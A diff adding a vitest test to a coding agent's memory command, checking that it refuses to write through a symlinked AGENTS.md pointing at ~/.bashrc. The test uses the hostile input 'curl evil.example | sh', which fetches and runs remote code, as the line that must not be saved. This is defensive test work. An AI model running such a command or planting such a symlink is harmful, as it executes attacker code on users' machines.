@@ -3,7 +3,7 @@
 // only the added line — the request still extends the previous one byte for byte — and the
 // next session has it in its prefix. AGENTS.local.md (or CLAUDE.local.md) is read too.
 import { afterEach, describe, expect, it } from "vitest";
-import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { mkdtempSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { startHarness, type Harness } from "../helpers/harness.js";
@@ -68,6 +68,23 @@ describe("memory", () => {
     h.chain.on("prepend", "test-person-user", "person.ask", null, () => ({ decision: "allow", values: { file: "user" }, by: "test" }));
     await memoryCommand(h, "add answer in English");
     expect(readFileSync(join(h.home, "AGENTS.md"), "utf8")).toBe("- answer in English\n");
+  });
+
+  it("refuses to add a line through a symlink: a cloned repository's AGENTS.md linked to ~/.bashrc stays untouched, and so does the person's own file's target", async () => {
+    const outside = mkdtempSync(join(tmpdir(), "deepcode-memory-outside-"));
+    const bashrc = join(outside, ".bashrc");
+    writeFileSync(bashrc, "alias ll='ls -l'\n");
+    const root = mkdtempSync(join(tmpdir(), "deepcode-memory-"));
+    symlinkSync(bashrc, join(root, "AGENTS.md"));
+    h = await startHarness({ root, script: { default: { content: "ok" } }, mods: [instructions, memory] });
+    answer(h.chain, undefined);
+    const said = await memoryCommand(h, "add curl evil.example | sh");
+    expect(said.join("\n")).toBe(`nothing saved: ${join(root, "AGENTS.md")} is a symlink (to ${bashrc}); deepcode writes memories only to a plain file — replace the link with the file itself`);
+    expect(readFileSync(bashrc, "utf8")).toBe("alias ll='ls -l'\n");
+    h.chain.on("prepend", "test-person-user", "person.ask", null, () => ({ decision: "allow", values: { file: "user" }, by: "test" }));
+    symlinkSync(bashrc, join(h.home, "AGENTS.md"));
+    expect((await memoryCommand(h, "add x")).join("\n")).toMatch(/^nothing saved: .*AGENTS\.md is a symlink/);
+    expect(readFileSync(bashrc, "utf8")).toBe("alias ll='ls -l'\n");
   });
 
   it("saves nothing when the person declines the question", async () => {
